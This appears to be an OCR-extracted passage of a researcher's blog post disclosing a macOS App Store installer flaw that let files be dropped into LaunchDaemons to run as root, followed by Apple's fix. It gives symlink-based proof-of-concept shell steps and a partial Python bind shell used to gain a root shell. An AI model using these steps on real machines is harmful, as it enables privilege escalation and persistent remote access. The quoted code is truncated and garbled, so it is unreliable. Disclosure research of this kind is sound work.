Dropping a plist file here will execute as rootDropping a file here will also execute as root.

You can also write to /etc.

Dropping files into these locations are essentially the same idea as dropping a file to the crontab folder. Potentially many other folders are also affected, so you can craft malicious dylib files, etc… but I didn’t explore other options.

The 2nd POC Link to heading

With that, and now being an ‘experienced’ :D macOS developer, I made a new POC, calledStartUp. It’s this: StartUp on the Mac App Store


It is really built along the same line as the previous one, but in this case for LaunchDaemons.

The way to utilize it is:

cd /Applications/
mkdir “”
mkdir Contents
cd Contents/
ln -s /Library/LaunchDaemons/ Resources
cd /Applications/
mkdir Scripts
cd Scripts/

Here you can create a script that will run as root after booting up. For myself I put a bind shell into that script, and after login, connecting to it I got a root shell, but it’s up to you what you put there.
python /Applications/Scripts/
Python Bind TCP PTY Shell - testing version
infodox - (2013)
Binds a PTY to a TCP port on the host it is ran on.
import os
import pty
import socket

lport = 31337 # XXX: CHANGEMEdef main():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind(('', lport))
    (rem, addr) = s.accept()
if __name__ == "__main__":

Reporting to Apple Link to heading

I reported this around February to Apple, and tried to explain again in very detailed why I think the entire installation process is still broken, and could be abused.

The security enhancement Link to heading

Apple never admitted this as a security bug, they never assigned a CVE, they considered it as an enhancement. Finally this came with Mojave 10.14.5, and they even mentioned my name on their website.


I made a quick test, and it turned out that they eventually managed to fix it properly. If you create the App’s folder, place there files, those will be all wiped. Using FireEye’s we can actually see it. The first event shows that they move the entire folder.


Being in Game Of Thrones mood I imagine it like this:


The following event shows that they install the application into its proper location:


So you can no longer drop there your files, etc…

I like the way this got fixed eventually, and I would like to thank Apple for that.

I would like toalso thank for Patrick Wardle whowas really helpful whenever I turned to him with my n00b macOSquestions.

To be continued… Link toheading

The story goes on, as Ibypassed Apple’s fix. An updatewill follow once they fixed the issue.